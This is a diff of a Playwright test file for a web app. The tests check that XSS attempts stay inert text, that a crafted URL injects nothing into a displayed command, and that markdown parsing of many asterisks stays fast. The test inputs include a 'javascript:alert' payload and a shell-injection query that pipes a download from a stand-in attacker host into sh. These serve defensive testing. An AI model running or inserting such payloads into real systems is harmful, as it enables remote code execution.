@@ -17,11 +17,16 @@ FIRST_VIEW_BYTES = 60_000
 FIRST_VIEW_REQUESTS = 4
 
 
-def test_scripting_attempts_stay_text(visitor: Visitor) -> None:
+def test_scripting_attempts_stay_text_and_enter_no_command(visitor: Visitor) -> None:
+    visitor.sign_in()
+    scripting_attempts_stay_text(visitor)
+    a_link_to_the_page_puts_nothing_into_a_command(visitor)
+
+
+def scripting_attempts_stay_text(visitor: Visitor) -> None:
     page = visitor.page
     dialogs: list[str] = []
     page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
-    visitor.sign_in()
     visitor.paste("Lighthouse1", f"javascript:alert(3) {ATTEMPT}", f"https://evil.example/{ATTEMPT}")
     page.get_by_label("Name").fill(ATTEMPT)
     page.get_by_text("1 link cannot be used").click()
@@ -43,13 +48,14 @@ def test_scripting_attempts_stay_text(visitor: Visitor) -> None:
     assert page.locator("a[href^='javascript']").count() == 0
     assert dialogs == []
     # The policy has reported nothing: see `visit`.
+    page.unroute_all()
 
 
-def test_a_link_to_the_page_puts_nothing_into_a_command(visitor: Visitor) -> None:
+def a_link_to_the_page_puts_nothing_into_a_command(visitor: Visitor) -> None:
     page = visitor.page
-    visitor.sign_in()
+    page.get_by_role("link", name="Skimlist").click()
     visitor.stack.youtube.fail(Failure.BLOCKED)
-    batch_id = visitor.create("Start", "Lighthouse1")
+    batch_id = visitor.create("Start", "Sauerteig_1")
     query = "?a;curl${IFS}evil.example/x|sh;`id`&b=$(id)"
     page.goto(f"{visitor.origin}/{query}#/batch/{batch_id}")
     expect(page.locator(".banner .copy-block code")).to_have_text(
@@ -59,23 +65,6 @@ def test_a_link_to_the_page_puts_nothing_into_a_command(visitor: Visitor) -> Non
     )
     assert query in page.url
     visitor.stack.recover()
-
-
-def test_a_summary_full_of_stars_does_not_hold_up_the_page(visitor: Visitor) -> None:
-    visitor.page.goto(visitor.stack.local.description["page_url"])
-    # The modules by themselves; the page has them joined.
-    visitor.page.route(
-        "**/scripts/*.js", lambda route: route.fulfill(path=ROOT / "web" / urlsplit(route.request.url).path[1:])
-    )
-    shown = """async () => {
-        const { prose } = await import("/scripts/markdown.js");
-        const began = performance.now();
-        const length = prose("**a ".repeat(25_000)).map((node) => node.textContent).join("").length;
-        return [length, performance.now() - began];
-    }"""
-    length, milliseconds = visitor.page.evaluate(shown)
-    assert length == 4 * 25_000 - 1
-    assert milliseconds < 2_000  # each star searched the rest of the text before: 7 s
 
 
 def poisoned(answer: Any) -> Any:
@@ -93,7 +82,12 @@ def poisoned(answer: Any) -> Any:
     return changed
 
 
-def test_the_first_view_is_small_and_a_second_visit_asks_for_the_document_alone(visitor: Visitor) -> None:
+def test_the_first_view_is_small_and_a_summary_full_of_stars_does_not_hold_it_up(visitor: Visitor) -> None:
+    the_first_view_is_small_and_a_second_visit_asks_for_the_document_alone(visitor)
+    a_summary_full_of_stars_does_not_hold_up_the_page(visitor)
+
+
+def the_first_view_is_small_and_a_second_visit_asks_for_the_document_alone(visitor: Visitor) -> None:
     """Each file may start a function, and a new AWS account runs ten at a time."""
     page, asked = visitor.page, list[str]()
     first: list[Mapping[str, int]] = []
@@ -112,3 +106,19 @@ def test_the_first_view_is_small_and_a_second_visit_asks_for_the_document_alone(
     assert all(size and not sent for size, sent in page.evaluate(sizes, "resource"))
     [[size, sent]] = page.evaluate(sizes, "navigation")
     assert sent < size + 300  # the answer was a 304: headers alone
+
+
+def a_summary_full_of_stars_does_not_hold_up_the_page(visitor: Visitor) -> None:
+    # The modules by themselves; the page has them joined.
+    visitor.page.route(
+        "**/scripts/*.js", lambda route: route.fulfill(path=ROOT / "web" / urlsplit(route.request.url).path[1:])
+    )
+    shown = """async () => {
+        const { prose } = await import("/scripts/markdown.js");
+        const began = performance.now();
+        const length = prose("**a ".repeat(25_000)).map((node) => node.textContent).join("").length;
+        return [length, performance.now() - began];
+    }"""
+    length, milliseconds = visitor.page.evaluate(shown)
+    assert length == 4 * 25_000 - 1
+    assert milliseconds < 2_000  # each star searched the rest of the text before: 7 s
